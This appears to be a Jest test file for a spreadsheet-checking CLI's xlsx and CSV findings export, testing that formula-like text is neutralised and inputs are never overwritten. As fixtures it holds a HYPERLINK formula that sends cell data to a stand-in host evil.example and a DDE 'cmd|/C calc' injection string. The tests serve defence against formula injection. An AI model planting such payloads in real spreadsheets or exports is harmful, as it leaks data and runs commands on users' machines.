/**
 * `kensa check … --out findings.xlsx | findings.csv` and `--format csv` (issue 8): one row per finding of every
 * file, a per-file sheet, reviewer-friendly layout and printing, text that stays text, and never an input
 * overwritten.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { promises as fs, readFileSync } from "fs";
import { createHash } from "crypto";
import * as path from "path";
import type { Rule } from "../../src/core/rules/rule";
import { findingHeaders, neutralizeCsvText, toCsv } from "../../src/core/report/table";
import { simpleWorkbook, tempDir, writeBadFiles, writeWorkbook } from "../fixtures/workbooks";
import { run, unrelatedWorkbook, withKnownSheet } from "./helpers";

/** Reports the text of every sheet's A1 as an error, with numbers: formula-like text travels into every column. */
const echoRule: Rule = {
  meta: {
    id: "test/echo",
    severity: "error",
    description: { ja: "テスト用: A1 をそのまま", en: "Test: A1 as is" },
    messages: { echo: { ja: "{text}", en: "{text}" } },
  },
  check(ctx) {
    return ctx.workbook.sheets
      .filter((s) => typeof s.rows[0]?.[0]?.value === "string" && s.rows[0][0].value !== "機関名")
      .map((s) => ({
        messageId: "echo",
        data: { text: String(s.rows[0][0]!.value) },
        sheet: s.name,
        cell: "A1",
        expected: -5,
        actual: 7.25,
      }));
  },
};

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let dir: string;
let inputs: { evil: string; clean: string; memo: string; unreadable: string };
const sha = (file: string) => createHash("sha256").update(readFileSync(file)).digest("hex");

beforeAll(async () => {
  dir = await tempDir("kensa-out-");
  const bad = await writeBadFiles(path.join(dir, "bad"));
  inputs = {
    // a file name and a sheet name a spreadsheet would take for formulas, and a formula-like message
    evil: await writeWorkbook(withKnownSheet(simpleWorkbook([[EVIL]], "=1+2")), path.join(dir, "in", "@evil.xlsx")),
    clean: await writeWorkbook(withKnownSheet(simpleWorkbook([["機関名"]])), path.join(dir, "in", "clean.xlsx")),
    memo: await writeWorkbook(unrelatedWorkbook(), path.join(dir, "in", "memo.xlsx")),
    unreadable: bad.text,
  };
});

afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

const deps = { rules: [echoRule] };
const all = () => [inputs.evil, inputs.clean, inputs.memo, inputs.unreadable];

async function load(file: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(readFileSync(file) as unknown as ExcelJS.Buffer);
  return wb;
}

describe("--out findings.xlsx", () => {
  let out: string;
  let code: number;
  let wb: ExcelJS.Workbook;
  beforeAll(async () => {
    out = path.join(dir, "report", "findings.xlsx");
    await fs.mkdir(path.dirname(out), { recursive: true });
    code = (await run(["check", ...all(), "--out", out], { deps })).code;
    wb = await load(out);
  });

  test("written, with the run's exit code unchanged (1: an error, an unreadable file, an unchecked file)", () => {
    expect(code).toBe(1);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["指摘一覧", "ファイル別"]);
  });

  test("指摘一覧: one row per finding across the files, the columns of the issue, numbers as numbers", () => {
    const ws = wb.getWorksheet("指摘一覧")!;
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(findingHeaders("ja"));
    const rows = [];
    for (let r = 2; r <= ws.rowCount; r++) rows.push((ws.getRow(r).values as unknown[]).slice(1));
    // @evil.xlsx: the echo finding on "=1+2"; memo.xlsx: its two sheets' A1 and the two unknown-sheet infos are
    // not from echo (only echo runs); the unreadable file: one row saying why
    const files = rows.map((r) => r[0]);
    expect(files).toEqual(["@evil.xlsx", "memo.xlsx", "memo.xlsx", "text.xlsx"]);
    const evil = rows[0];
    expect(evil[1]).toBe("=1+2");
    expect(evil[3]).toBe("エラー");
    expect(evil[4]).toBe("テスト用: A1 をそのまま"); // a rule without a short name: its description
    expect(evil[5]).toBe("test/echo");
    expect(evil[6]).toBe(EVIL);
    expect(evil[7]).toBe(7.25); // 記入値 (actual)
    expect(evil[8]).toBe(-5); // 計算値 (expected)
    expect(evil[9]).toBe("未確認");
    expect(rows[3]).toEqual(expect.arrayContaining(["読めないファイル", "読めない"]));
  });

  test("text stays text: no cell holds a formula but the HYPERLINK links, built from escaped literals", async () => {
    const ws = wb.getWorksheet("指摘一覧")!;
    const message = ws.getCell("G2");
    expect(message.type).toBe(ExcelJS.ValueType.String);
    expect(message.formula).toBeUndefined();
    expect(ws.getCell("B2").type).toBe(ExcelJS.ValueType.String);
    expect(ws.getCell("A2").type).toBe(ExcelJS.ValueType.String);
    // in the file itself: every <f> is a HYPERLINK, and the evil text is only ever a shared string
    const zip = await JSZip.loadAsync(readFileSync(out));
    const xml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    const formulas = [...xml.matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]);
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(f).toMatch(/^HYPERLINK\(&quot;\[/);
    expect(xml).not.toContain("evil.example");
    expect(await zip.file("xl/sharedStrings.xml")!.async("string")).toContain("evil.example");
  });

  test("each cell address links to the cell in its workbook, by a path relative to the findings file", () => {
    const cell = wb.getWorksheet("指摘一覧")!.getCell("C2");
    const rel = path.relative(path.dirname(out), inputs.evil);
    expect(cell.formula).toBe(`HYPERLINK("[${rel}]'=1+2'!A1","A1")`);
    expect((cell.value as ExcelJS.CellFormulaValue).result).toBe("A1");
  });

  test("ファイル別: 合格 / エラーあり / 未検証 / 読めない with the counts", () => {
    const ws = wb.getWorksheet("ファイル別")!;
    const rows = [];
    for (let r = 2; r <= ws.rowCount; r++) {
      const v = ws.getRow(r).values as unknown[];
      const first = v[1] as ExcelJS.CellFormulaValue | string;
      rows.push([typeof first === "string" ? first : first.result, v[2], v[3], v[4], v[5]]);
    }
    expect(rows).toEqual([
      [inputs.evil, "エラーあり", 1, 0, 0],
      [inputs.clean, "合格", 0, 0, 0],
      [inputs.memo, "未検証", 2, 0, 0],
      [inputs.unreadable, "読めない", 0, 0, 0],
    ]);
  });

  test("frozen header, filters, wrapped text, A4 landscape fitted to the width, the header on every page", () => {
    for (const name of ["指摘一覧", "ファイル別"]) {
      const ws = wb.getWorksheet(name)!;
      expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
      expect(ws.autoFilter).toBeDefined();
      expect(ws.pageSetup).toMatchObject({
        paperSize: 9,
        orientation: "landscape",
        fitToPage: true,
        fitToWidth: 1,
        fitToHeight: 0,
        printTitlesRow: "1:1",
      });
    }
    const ws = wb.getWorksheet("指摘一覧")!;
    expect(ws.autoFilter).toBe(`A1:L${ws.rowCount}`);
    expect(ws.getCell("G2").alignment).toMatchObject({ wrapText: true, vertical: "top" });
    expect(ws.getCell("A1").font).toMatchObject({ bold: true });
  });

  test("written through a temporary file: nothing else is left in the folder", async () => {
    expect(await fs.readdir(path.dirname(out))).toEqual(["findings.xlsx"]);
  });
});

describe("CSV", () => {
  test("--format csv: UTF-8 with BOM, CRLF, every field quoted, formula-like text neutralised, numbers kept", async () => {
    const r = await run(["check", ...all(), "--format", "csv"], { deps });
    expect(r.code).toBe(1);
    expect(
      r.stdout.startsWith(
        '\uFEFF"ファイル","シート","セル","重要度","ルール","ルールID","メッセージ","記入値","計算値","状態","関連セル","確認の理由"\r\n',
      ),
    ).toBe(true);
    const lines = r.stdout.slice(1).split("\r\n");
    expect(lines[1]).toBe(
      `"'@evil.xlsx","'=1+2","A1","エラー","テスト用: A1 をそのまま","test/echo","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","7.25","-5","未確認","",`,
    );
    expect(lines[lines.length - 1]).toBe("");
    // stdout is CSV only: the unreadable and unchecked files get their lines on stderr
    expect(r.stderr).toContain("text.xlsx");
    expect(r.stderr).toContain("未検証");
  });

  test("--out findings.csv writes the same bytes as --format csv prints", async () => {
    const out = path.join(dir, "report-csv", "findings.csv");
    await fs.mkdir(path.dirname(out), { recursive: true });
    const printed = await run(["check", ...all(), "--format", "csv"], { deps });
    const r = await run(["check", ...all(), "--out", out, "--quiet"], { deps });
    expect(r.code).toBe(1);
    expect(readFileSync(out, "utf8")).toBe(printed.stdout);
    expect(readFileSync(out).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  test.each([
    ["=1+2", "'=1+2"],
    ["+81 3", "'+81 3"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tx", "'\tx"],
    ["\rx", "'\rx"],
    ["指標1 = 全体", "指標1 = 全体"],
    ["", ""],
  ])("neutralizeCsvText(%j) → %j", (text, want) => {
    expect(neutralizeCsvText(text)).toBe(want);
  });

  test("toCsv quotes commas, quotes and line breaks inside a field", () => {
    expect(toCsv([["a,b", 'say "x"', "two\nlines", 3, undefined]])).toBe(
      '\uFEFF"a,b","say ""x""","two\nlines","3",\r\n',
    );
  });
});

describe("never an input", () => {
  test("--out naming an input is a usage error, and the input is untouched", async () => {
    const before = sha(inputs.clean);
    const r = await run(["check", inputs.clean, "--out", inputs.clean], { deps });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--out に検証するファイル自身は指定できません/);
    expect(sha(inputs.clean)).toBe(before);
  });

  test("--out must be .xlsx or .csv", async () => {
    const r = await run(["check", inputs.clean, "--out", path.join(dir, "x.txt")], { deps });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\.xlsx または \.csv/);
  });

  test("a findings file left in the folder by an earlier run is not checked again", async () => {
    const folder = path.join(dir, "folder");
    await writeWorkbook(withKnownSheet(simpleWorkbook([["機関名"]])), path.join(folder, "a.xlsx"));
    const out = path.join(folder, "findings.xlsx");
    expect((await run(["check", folder, "--out", out], { deps })).code).toBe(0);
    const again = await run(["check", folder, "--out", out, "--format", "json"], { deps });
    expect(JSON.parse(again.stdout).files.map((f: { file: string }) => path.basename(f.file))).toEqual(["a.xlsx"]);
    expect(again.code).toBe(0);
  });

  test("the folder of --out is created when missing", async () => {
    const out = path.join(dir, "new", "deeper", "findings.xlsx");
    expect((await run(["check", inputs.clean, "--out", out], { deps })).code).toBe(0);
    expect((await fs.stat(out)).isFile()).toBe(true);
  });

  test("a findings file that cannot be written: exit 1 and one line saying why, no temporary file left", async () => {
    const parent = path.join(dir, "blocked");
    await fs.mkdir(parent, { recursive: true });
    const file = path.join(parent, "report");
    await fs.writeFile(file, "a file where a folder should be");
    const out = path.join(file, "findings.xlsx");
    const r = await run(["check", inputs.clean, "--out", out], { deps });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/指摘一覧を書き込めません: .*findings\.xlsx/);
    expect(
      r.stderr
        .trimEnd()
        .split("\n")
        .filter((l) => l.includes("指摘一覧を書き込めません")),
    ).toHaveLength(1);
    expect(await fs.readdir(parent)).toEqual(["report"]);
  });

  test("a folder at --out is refused before checking: exit 2, one line, the folder left as it was", async () => {
    const out = path.join(dir, "taken", "findings.xlsx");
    await fs.mkdir(out, { recursive: true });
    const r = await run(["check", inputs.clean, "--out", out], { deps });
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(`kensa: ${out}: フォルダであり、通常のファイルではないため書き込みません\n`);
    expect(r.stdout).toBe("");
    expect(await fs.readdir(out)).toEqual([]);
  });
});
